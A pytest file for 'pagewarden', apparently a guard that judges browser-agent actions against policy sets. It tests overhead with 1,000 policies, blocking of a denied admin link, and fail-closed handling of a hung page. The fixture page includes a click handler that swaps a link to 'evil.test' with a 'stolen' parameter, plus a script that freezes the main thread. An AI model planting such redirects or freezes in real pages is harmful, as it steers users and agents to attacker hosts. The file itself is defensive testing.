"""The guard's hot path with many policies loaded, and reads of the page that cannot hang.

Real Chromium on 127.0.0.1 pages. A rule book of 1,000 policies mixing every rule kind is
loaded; link clicks must complete (and be judged: the allowed one runs, the denied one is
stopped before anything reaches the server), and a page that does not answer the facts reader
gets a bounded, fail-closed verdict instead of a 30 s wait.
"""

from __future__ import annotations

import asyncio
import random
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page

from pagewarden import ActionBlocked, Guard, PolicySet, read_trace
from pagewarden.testing import LocalSite, Response

LINKS = """<!doctype html><html><head><title>Hot path</title></head><body><main><h1>Items</h1>
<p>Counter <output id="n">0</output></p>
{rows}
<a id="open" href="/hot/details.html?item=3">Open details</a>
<a id="admin" href="/hot/admin/panel.html">Admin panel</a>
<a id="swap" href="/hot/details.html?item=9">Details nine</a>
<script>
document.getElementById('swap').addEventListener('click', e => {{
  e.currentTarget.href = 'http://evil.test/plain.html?stolen=1';
}});
</script></main></body></html>"""
DETAILS = "<!doctype html><html><head><title>Details</title></head><body><p>Details.</p></body></html>"


def policy_mix(count: int) -> PolicySet:
    """`count` policies of every rule kind; one `url_deny` covers /hot/admin/, one
    `domain_allow` keeps the session on app.test; nothing else fires on the page's links."""
    rng = random.Random(3)
    makers = [
        lambda i: {"url_deny": [f"/area{i}/admin{i}", f"module=M{i}"]},
        lambda i: {"forbid_element": {"match": [f"Delete record {i}", "remove"]}},
        lambda i: {"consent": {"match": [f"Create order {i}"], "actions": ["click", "fill"]}},
        lambda i: {"sensitive_data": {"values": [f"secret-{i}-{rng.random():.6f}"], "allow_user": False}},
        lambda i: {"action_budget": {"actions": "click", "max": 20, "selectors": [f"#save-{i}"]}},
        lambda i: {"sequence": {"steps": [{"actions": "fill", "match": [f"Subject {i}"]},
                                          {"actions": "click", "match": ["Send"]}]}},
        lambda i: {"domain_deny": [f"bad{i}.example", f"*.bad{i}.example"]},
        lambda i: {"forbid_element": {"match": [f"Drop table {i}"], "actions": ["any"]}},
        lambda i: {"action_budget": {"actions": "any", "max": 50_000 + i}},
    ]  # fmt: skip
    policies = [
        {"id": "HOT-SITE", "category": "boundary", "risk_level": "high", "description": "Stay on app.test.",
         "rules": [{"domain_allow": ["app.test"]}]},
        {"id": "HOT-ADMIN", "category": "boundary", "risk_level": "high", "description": "No admin pages.",
         "rules": [{"url_deny": ["/hot/admin/"]}]},
    ]  # fmt: skip
    for i in range(count - len(policies)):
        policies.append(
            {"id": f"MIX-{i:04d}", "category": "boundary", "risk_level": "medium",
             "description": f"Mixed policy {i}.", "rules": [makers[i % len(makers)](i)]}
        )  # fmt: skip
    return PolicySet.from_dict({"version": 1, "policies": policies})


@pytest.fixture
def hot_site(site: LocalSite) -> LocalSite:
    rows = "".join(f'<p><a id="l{i}" href="/hot/details.html?item={i}">Item {i}</a></p>' for i in range(200))
    site.route("app.test", "/hot/links.html", lambda _r: Response(LINKS.format(rows=rows)))
    site.route("app.test", "/hot/details.html", lambda _r: Response(DETAILS))
    site.route("app.test", "/hot/admin/panel.html", lambda _r: Response(DETAILS))
    return site


async def test_link_clicks_with_a_thousand_policies(page: Page, hot_site: LocalSite, tmp_path: Path) -> None:
    """The overhead benchmark's link rows with policies loaded: each click navigates and is
    judged (allowed), a denied link is stopped, and returning to the page works again."""
    guard = Guard(policy_mix(1000), goal="Look at the items on app.test.", trace=tmp_path / "t.jsonl")
    guarded = guard.wrap(page)
    start = "http://app.test/hot/links.html"
    for item in (7, 14, 21):
        await guarded.goto(start)
        await asyncio.wait_for(guarded.locator(f"#l{item}").click(), 60)
        assert page.url == f"http://app.test/hot/details.html?item={item}"
    await guarded.goto(start)
    before = len(hot_site.requests_to("app.test", "/hot/admin/panel.html"))
    with pytest.raises(ActionBlocked) as caught:
        await guarded.locator("#admin").click()
    assert "HOT-ADMIN" in caught.value.verdict.violated_policy_ids
    assert page.url == start
    assert len(hot_site.requests_to("app.test", "/hot/admin/panel.html")) == before
    clicks = [r for r in read_trace(tmp_path / "t.jsonl") if r.step.action.kind == "click"]
    assert [r.verdict.decision.value for r in clicks] == ["allow", "allow", "allow", "block"]
    assert [(r.raw or {}).get("ran") for r in clicks] == [True, True, True, False]


async def test_swap_still_stopped_with_policies_loaded(page: Page, hot_site: LocalSite) -> None:
    """A link that swaps its href for another site in its click handler is still stopped and
    reported (the report is read from the judged document, which stays)."""
    guarded = Guard(policy_mix(1000), goal="Look at the items on app.test.").wrap(page)
    await guarded.goto("http://app.test/hot/links.html")
    before = len(hot_site.requests_to("evil.test"))
    with pytest.raises(ActionBlocked) as caught:
        await guarded.locator("#swap").click()
    assert caught.value.verdict.findings[0].rule == "destination_pinning"
    assert "evil.test" in caught.value.verdict.explanation
    await page.wait_for_timeout(100)
    assert page.url == "http://app.test/hot/links.html"
    assert len(hot_site.requests_to("evil.test")) == before


async def test_page_that_does_not_answer_gets_a_bounded_fail_closed_verdict(
    page: Page, hot_site: LocalSite, tmp_path: Path
) -> None:
    """A page whose main thread is stuck does not hold a read of the document for Playwright's
    30 s default: the guard gives up after its bound and blocks, saying why."""
    guard = Guard(goal="Look at the items on app.test.", trace=tmp_path / "t.jsonl")
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/hot/links.html")
    box: Any = await page.locator("#open").bounding_box()
    assert box is not None
    # the page's main thread is busy for 9 s from now on
    busy = "() => { setTimeout(() => { const t = Date.now(); while (Date.now() - t < 9000); }, 0); }"
    await page.evaluate(busy)
    await page.wait_for_timeout(50)
    loop = asyncio.get_running_loop()
    started = loop.time()
    with pytest.raises(ActionBlocked) as caught:
        await asyncio.wait_for(guarded.mouse.click(box["x"] + 5, box["y"] + 5), 25)
    assert loop.time() - started < 9
    assert "did not answer the facts reader" in caught.value.verdict.explanation
    last = list(read_trace(tmp_path / "t.jsonl"))[-1]
    assert last.verdict.decision.value == "block" and not (last.raw or {}).get("ran")
    await page.close()  # ends the busy renderer instead of waiting the 9 s out
